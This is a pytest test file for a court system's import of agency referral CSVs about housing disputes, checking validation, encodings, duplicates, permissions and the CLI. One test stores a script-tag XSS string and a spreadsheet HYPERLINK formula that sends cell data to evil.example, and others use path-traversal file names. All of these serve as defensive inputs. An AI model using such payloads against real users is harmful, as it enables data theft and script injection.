"""Importing agencies' referrals from CSV: all rows or none, with a per-row report."""
from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select

from app.extensions import db
from app.models import Complaint, ComplaintClaim, Person, ReferralImport, User
from app.services import referral_csv, referrals
from app.services.errors import ForbiddenError, ServiceError
from mediation.identifiers import make_resident_id
from tests.factories import NOW

SAMPLE = Path(__file__).resolve().parents[1] / "data" / "referrals_sample.csv"
HEADER = ["姓名", "身份证号", "电话", "项目", "房号", "纠纷类型", "诉求金额(元)", "事实与理由"]


def rid(n: int) -> str:
    return make_resident_id(f"46900519800101{n:03d}")


def csv_bytes(rows, header=HEADER, encoding="utf-8-sig") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def row(n: int, project: str = "椰风海韵", **overrides) -> list[str]:
    values = {"name": f"业主{n}", "resident_id": rid(n), "phone": "13800138000", "project": project,
              "unit": f"1栋{n:03d}", "dispute_type": "逾期交房", "claim_yuan": "1000",
              "facts": "逾期交房，要求支付违约金。"}
    values.update(overrides)
    return [values[k] for k in ("name", "resident_id", "phone", "project", "unit", "dispute_type",
                                "claim_yuan", "facts")]


@pytest.fixture
def court_setup(make):
    """A court with two projects named like the sample file's, and a judge."""
    court = make.court()
    developer = make.developer()
    first = make.project(developer=developer, court=court, name="椰风海韵")
    second = make.project(developer=developer, court=court, name="航天花园")
    judge = make.user("judge", court=court)
    return {"court": court, "projects": (first, second), "judge": judge, "developer": developer}


def run(app, data: bytes, *, username: str, agency: str = "housing_bureau", now=NOW, **kwargs):
    with app.app_context():
        actor = db.session.scalar(select(User).where(User.username == username))
        record = referrals.import_referrals(data, filename="转办.csv", agency=agency, actor=actor,
                                            now=now, **kwargs)
        return record.id


def load(app, import_id: int):
    with app.app_context():
        record = db.session.get(ReferralImport, import_id)
        complaints = db.session.scalars(
            select(Complaint).where(Complaint.referral_import_id == import_id).order_by(Complaint.id)).all()
        return record, complaints


def count(app, model) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model))


def test_a_valid_file_becomes_submitted_complaints_from_the_housing_bureau(app, court_setup):
    """Does every row of the sample become a complaint waiting in the judge's triage?"""
    import_id = run(app, SAMPLE.read_bytes(), username=court_setup["judge"].username)
    with app.app_context():
        record = db.session.get(ReferralImport, import_id)
        assert (record.status, record.total_rows, record.processed_rows, record.imported_rows) == (
            "imported", 4, 4, 4)
        assert record.court_id == court_setup["court"].id
        complaints = db.session.scalars(
            select(Complaint).where(Complaint.referral_import_id == import_id).order_by(Complaint.id)).all()
        assert {c.status for c in complaints} == {"submitted"}
        assert {c.channel for c in complaints} == {"referral_housing"}
        assert {c.court_id for c in complaints} == {court_setup["court"].id}
        assert [c.claimant_person.name for c in complaints] == ["王海燕", "陈志强", "林晓梅", "符国华"]
        assert [c.dispute_type for c in complaints] == ["late_delivery", "late_delivery", "quality",
                                                        "title_delay"]
        assert complaints[0].respondent_developer_id == court_setup["developer"].id
        assert complaints[1].claimant_person.phone == "0898-63212345"
        assert complaints[3].claimant_person.phone == "13976543210"
        assert all(c.receipt_no.startswith("TS20261127-") for c in complaints)
        assert len({c.receipt_no for c in complaints}) == 4
        assert [[cl.amount_fen for cl in c.claims] for c in complaints] == [
            [8_640_000], [5_200_000], [1_200_050], []]
        assert (complaints[0].external_ref, str(complaints[0].referred_on)) == ("ZJ-2026-0311", "2026-11-20")
        assert not complaints[0].facts.startswith("【")
        assert complaints[2].facts == "入住后发现外墙渗水、卫生间漏水，多次报修未果。"
        assert complaints[2].unit == "8栋602" and complaints[3].unit is None


@pytest.mark.parametrize("agency, channel", [
    ("petition_office", "referral_petition"), ("hotline_12345", "hotline_12345"),
    ("police", "referral_other"), ("land_bureau", "referral_other"),
])
def test_the_channel_follows_the_referring_agency(app, court_setup, agency, channel):
    import_id = run(app, csv_bytes([row(1)]), username=court_setup["judge"].username, agency=agency)
    _, complaints = load(app, import_id)
    assert [c.channel for c in complaints] == [channel]


def test_one_wrong_check_digit_in_row_17_imports_nothing(app, court_setup):
    """Does a single bad ID number in row 17 stop the whole file, with the row and column named?"""
    rows = [row(n) for n in range(1, 21)]
    good = rows[15][1]
    rows[15][1] = good[:17] + ("0" if good[17] != "0" else "1")  # Excel row 17 = 16th data row
    persons_before = count(app, Person)
    import_id = run(app, csv_bytes(rows), username=court_setup["judge"].username)
    record, complaints = load(app, import_id)
    assert record.status == "failed"
    assert complaints == []
    assert count(app, Complaint) == 0
    assert count(app, Person) == persons_before
    errors = referrals.report_errors(record)
    assert [(e["row"], e["field"]) for e in errors] == [(17, "resident_id")]
    assert errors[0]["message"].startswith("第17行：身份证号校验位错误")
    assert record.total_rows == 20 and record.imported_rows == 0 and record.finished_at is not None


def test_every_bad_row_is_reported_not_only_the_first(app, court_setup):
    rows = [row(1), row(2, phone="12345"), row(3, claim_yuan="-5"), row(4, dispute_type="吵架"),
            row(5, name="")]
    import_id = run(app, csv_bytes(rows), username=court_setup["judge"].username)
    record, _ = load(app, import_id)
    assert [(e["row"], e["field"]) for e in referrals.report_errors(record)] == [
        (3, "phone"), (4, "claim_yuan"), (5, "dispute_type"), (6, "name")]


def test_a_gbk_file_from_excel_is_read(app, court_setup):
    """Can a file saved by Chinese Excel (GBK) be imported with its names intact?"""
    data = SAMPLE.read_bytes().decode("utf-8-sig").encode("gbk")
    import_id = run(app, data, username=court_setup["judge"].username)
    record, complaints = load(app, import_id)
    assert record.status == "imported"
    with app.app_context():
        assert [db.session.get(Person, c.claimant_person_id).name for c in complaints][:2] == [
            "王海燕", "陈志强"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "gb18030"])
def test_other_common_encodings_are_read(app, court_setup, encoding):
    import_id = run(app, csv_bytes([row(1, name="黎明")], encoding=encoding),
                    username=court_setup["judge"].username)
    record, complaints = load(app, import_id)
    assert record.status == "imported" and len(complaints) == 1


def test_english_headers_in_any_order_are_accepted(app, court_setup):
    header = ["facts", "dispute_type", "project", "phone", "resident_id", "name", "claim_yuan",
              "received_on", "external_ref", "remarks"]
    data = csv_bytes([["漏水", "quality", "航天花园", "13800138000", rid(9), "Li Lei", "0.01",
                       "2026.11.01", "12345-0001", "ignored"]], header=header)
    import_id = run(app, data, username=court_setup["judge"].username)
    record, complaints = load(app, import_id)
    assert record.status == "imported"
    assert complaints[0].dispute_type == "quality"
    assert (complaints[0].external_ref, str(complaints[0].referred_on)) == ("12345-0001", "2026-11-01")


def test_a_missing_required_column_fails_on_row_1(app, court_setup):
    data = csv_bytes([row(1)[:2]], header=["姓名", "身份证号"])
    import_id = run(app, data, username=court_setup["judge"].username)
    record, _ = load(app, import_id)
    (error,) = referrals.report_errors(record)
    assert record.status == "failed" and error["row"] == 1
    assert "电话" in error["message"] and "项目" in error["message"]


@pytest.mark.parametrize("data, fragment", [
    (b"PK\x03\x04rest-of-a-zip", "Excel"),
    (b"", "空"),
    ("姓名,身份证号,电话,项目,纠纷类型,事实与理由\r\n".encode(), "没有数据行"),
    (b"\x81\xff\xfe\x00\x80", "编码"),
])
def test_unreadable_files_fail_with_a_clear_message(app, court_setup, data, fragment):
    import_id = run(app, data, username=court_setup["judge"].username)
    record, _ = load(app, import_id)
    assert record.status == "failed"
    assert fragment in referrals.report_errors(record)[0]["message"]


def test_an_unknown_project_or_one_of_another_court_is_a_row_error(app, court_setup, make):
    elsewhere = make.project(name="别院花园")
    rows = [row(1, project="不存在的楼盘"), row(2, project="别院花园"), row(3, project=str(elsewhere.id)),
            row(4, project=str(court_setup["projects"][1].id))]
    import_id = run(app, csv_bytes(rows), username=court_setup["judge"].username)
    record, _ = load(app, import_id)
    assert [(e["row"], e["field"]) for e in referrals.report_errors(record)] == [
        (2, "project"), (3, "project"), (4, "project")]
    assert "不存在的楼盘" in referrals.report_errors(record)[0]["message"]


@pytest.mark.parametrize("amount, ok", [
    ("1,234.56", True), ("￥800", True), ("0", True), ("", True), ("12.345", False), ("-1", False),
    ("abc", False), ("NaN", False), ("Infinity", False), ("1e3", True), ("99999999999999", False),
    ("1e999999999", False), ("1E+999999999", False), ("1e-999999999", False), ("12e-1", True),
])
def test_claim_amounts_are_yuan_with_at_most_two_decimals(app, court_setup, amount, ok):
    import_id = run(app, csv_bytes([row(1, claim_yuan=amount)]), username=court_setup["judge"].username)
    record, _ = load(app, import_id)
    assert (record.status == "imported") is ok
    if not ok:
        assert referrals.report_errors(record)[0]["field"] == "claim_yuan"


def test_a_received_date_in_the_future_or_malformed_is_refused(app, court_setup):
    header = HEADER + ["来件日期"]
    rows = [row(1) + ["2026-11-28"], row(2) + ["2026-02-30"], row(3) + ["昨天"], row(4) + ["2026/11/27"]]
    import_id = run(app, csv_bytes(rows, header=header), username=court_setup["judge"].username)
    record, _ = load(app, import_id)
    assert [(e["row"], e["field"]) for e in referrals.report_errors(record)] == [
        (2, "received_on"), (3, "received_on"), (4, "received_on")]


def test_a_row_with_more_cells_than_the_header_is_refused(app, court_setup):
    """An unquoted comma in the facts shifts the columns: the row is refused, not mangled."""
    data = csv_bytes([row(1)]) + ("业主2," + rid(2) + ",13800138000,椰风海韵,1栋2,逾期交房,10,逾期,违约\r\n").encode()
    import_id = run(app, data, username=court_setup["judge"].username)
    record, _ = load(app, import_id)
    assert [(e["row"], e["field"]) for e in referrals.report_errors(record)] == [(3, "file")]


def test_duplicates_against_stored_complaints_and_earlier_rows_are_imported_and_flagged(
        app, court_setup, make):
    """Same person, project and type within 30 days: imported, flagged for the judge to merge."""
    project = court_setup["projects"][0]
    known = make.person(name="老业主")
    earlier = make.complaint(project=project, person=known)  # submitted at NOW
    rows = [
        row(1, name="老业主", resident_id=known.resident_id),  # repeats the stored complaint
        row(2),
        row(3, name="业主2", resident_id=rid(2)),               # repeats row 2 of this file … (row 3)
        row(4, name="业主2", resident_id=rid(2), dispute_type="房屋质量"),  # another type: not
        row(5, name="老业主", resident_id=known.resident_id, project="航天花园"),  # another project
    ]
    import_id = run(app, csv_bytes(rows), username=court_setup["judge"].username,
                    now=NOW + timedelta(days=10))
    record, complaints = load(app, import_id)
    assert record.status == "imported" and record.imported_rows == 5
    assert record.duplicate_rows == 2
    assert [c.duplicate_of_id for c in complaints] == [
        earlier.id, None, complaints[1].id, None, None]
    notes = referrals.report_notes(record)
    assert [(n["row"], n["kind"]) for n in notes] == [(2, "duplicate"), (4, "duplicate")]
    assert earlier.receipt_no in notes[0]["message"]
    assert "第3行" in notes[1]["message"]
    # The known person is reused, not created twice; the new one is created once.
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Person)
                                 .where(Person.resident_id == rid(2))) == 1
        assert complaints[0].claimant_person_id == known.id


def test_a_complaint_older_than_30_days_is_no_duplicate(app, court_setup, make):
    known = make.person()
    make.complaint(project=court_setup["projects"][0], person=known)
    import_id = run(app, csv_bytes([row(1, resident_id=known.resident_id, name=known.name)]),
                    username=court_setup["judge"].username, now=NOW + timedelta(days=31))
    record, complaints = load(app, import_id)
    assert record.duplicate_rows == 0 and complaints[0].duplicate_of_id is None


def test_a_name_that_differs_from_the_registered_person_is_noted(app, court_setup, make):
    known = make.person(name="张三")
    import_id = run(app, csv_bytes([row(1, resident_id=known.resident_id, name="张叁")]),
                    username=court_setup["judge"].username)
    record, complaints = load(app, import_id)
    assert record.status == "imported" and complaints[0].claimant_person_id == known.id
    (note,) = referrals.report_notes(record)
    assert note["kind"] == "note" and "张三" in note["message"]


def test_hostile_text_is_stored_as_plain_text(app, court_setup):
    """Script tags and spreadsheet formulas are kept verbatim (escaped when shown)."""
    name = "<script>alert(1)</script>"
    facts = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    import_id = run(app, csv_bytes([row(1, name=name, facts=facts, unit="@SUM(1+1)")]),
                    username=court_setup["judge"].username)
    record, complaints = load(app, import_id)
    assert record.status == "imported"
    assert complaints[0].facts == facts and complaints[0].unit == "@SUM(1+1)"
    with app.app_context():
        assert db.session.get(Person, complaints[0].claimant_person_id).name == name


def test_the_report_csv_neutralises_formulas():
    data = referral_csv.errors_csv([
        {"row": 3, "field": "facts", "kind": "error", "message": "=HYPERLINK(\"x\")"},
        {"row": 4, "field": "name", "kind": "note", "message": "+1"},
        {"row": 5, "field": "name", "kind": "note", "message": "-1"},
        {"row": 6, "field": "unit", "kind": "duplicate", "message": "@SUM(A1)"},
    ]).decode("utf-8-sig")
    cells = [line[3] for line in csv.reader(io.StringIO(data))][1:]
    assert cells == ["'=HYPERLINK(\"x\")", "'+1", "'-1", "'@SUM(A1)"]


def test_the_template_has_every_column_and_a_bom_for_excel():
    data = referral_csv.template_csv()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").strip().split(",") == [c.header for c in referral_csv.COLUMNS]


def test_progress_is_reported_and_committed(app, court_setup):
    calls = []
    rows = [row(n) for n in range(1, 251)]
    import_id = run(app, csv_bytes(rows), username=court_setup["judge"].username,
                    progress=lambda done, total: calls.append((done, total)))
    assert calls == [(0, 250), (100, 250), (200, 250), (250, 250)]
    record, complaints = load(app, import_id)
    assert record.processed_rows == 250 and len(complaints) == 250


def test_a_clerk_of_the_court_may_import(app, court_setup, make):
    clerk = make.user("admin", court=court_setup["court"])
    import_id = run(app, csv_bytes([row(1)]), username=clerk.username)
    record, complaints = load(app, import_id)
    assert record.status == "imported" and record.uploaded_by_id == clerk.id


@pytest.mark.parametrize("role", ["homeowner", "developer", "mediator"])
def test_other_roles_cannot_import(app, court_setup, make, role):
    user = make.user(role)
    with pytest.raises(ForbiddenError):
        run(app, csv_bytes([row(1)]), username=user.username)
    assert count(app, ReferralImport) == 0


def test_a_judge_cannot_import_into_another_court(app, court_setup, make):
    other = make.court()
    with pytest.raises(ForbiddenError):
        run(app, csv_bytes([row(1)]), username=court_setup["judge"].username, court_id=other.id)


def test_an_unknown_agency_is_refused(app, court_setup):
    with pytest.raises(ServiceError) as refused:
        run(app, csv_bytes([row(1)]), username=court_setup["judge"].username, agency="../etc")
    assert refused.value.field == "agency"


def test_the_file_name_keeps_no_path(app, court_setup):
    with app.app_context():
        actor = db.session.get(User, court_setup["judge"].id)
        record = referrals.start_referral_import(filename="..\\..\\C:/x/../转办<1>.csv",
                                                 agency="police", actor=actor, now=NOW)
        assert record.filename == "转办<1>.csv"


def test_an_import_runs_only_once(app, court_setup):
    import_id = run(app, csv_bytes([row(1)]), username=court_setup["judge"].username)
    with app.app_context(), pytest.raises(ServiceError):
        actor = db.session.get(User, court_setup["judge"].id)
        referrals.run_referral_import(import_id, csv_bytes([row(2)]), actor=actor, now=NOW)
    assert count(app, Complaint) == 1


def test_claims_are_stored_in_fen(app, court_setup):
    import_id = run(app, csv_bytes([row(1, claim_yuan="0.10")]), username=court_setup["judge"].username)
    with app.app_context():
        amounts = db.session.scalars(select(ComplaintClaim.amount_fen).join(Complaint)
                                     .where(Complaint.referral_import_id == import_id)).all()
    assert amounts == [10]


def test_the_cli_imports_a_file_with_a_progress_bar(app, court_setup, tmp_path):
    """flask referrals import FILE --agency … --court-id … --user …"""
    path = tmp_path / "转办.csv"
    path.write_bytes(csv_bytes([row(n) for n in range(1, 131)]))
    result = app.test_cli_runner().invoke(args=[
        "referrals", "import", str(path), "--agency", "hotline_12345",
        "--court-id", str(court_setup["court"].id), "--user", court_setup["judge"].username])
    assert result.exit_code == 0, result.output
    assert "import #" in result.stdout and "130 complaint(s)" in result.stdout
    assert "checking rows" in result.stderr  # the bar (drawn in full only on a terminal)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Complaint)
                                 .where(Complaint.channel == "hotline_12345")) == 130


def test_the_cli_reports_row_errors_and_exits_1(app, court_setup, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_bytes(csv_bytes([row(1), row(2, resident_id="123")]))
    result = app.test_cli_runner().invoke(args=[
        "referrals", "import", str(path), "--agency", "petition_office",
        "--court-id", str(court_setup["court"].id), "--user", court_setup["judge"].username])
    assert result.exit_code == 1
    assert "第3行：身份证号应为18位" in result.stderr
    assert count(app, Complaint) == 0


@pytest.mark.parametrize("change", ["user", "court", "foreign-court"])
def test_the_cli_refuses_wrong_arguments_with_exit_2(app, court_setup, make, tmp_path, change):
    path = tmp_path / "ok.csv"
    path.write_bytes(csv_bytes([row(1)]))
    court_id, username = court_setup["court"].id, court_setup["judge"].username
    if change == "user":
        username = "nobody"
    elif change == "court":
        court_id = 999_999
    else:
        court_id = make.court().id
    result = app.test_cli_runner().invoke(args=[
        "referrals", "import", str(path), "--agency", "police", "--court-id", str(court_id),
        "--user", username])
    assert result.exit_code == 2, result.stderr
    assert count(app, Complaint) == 0
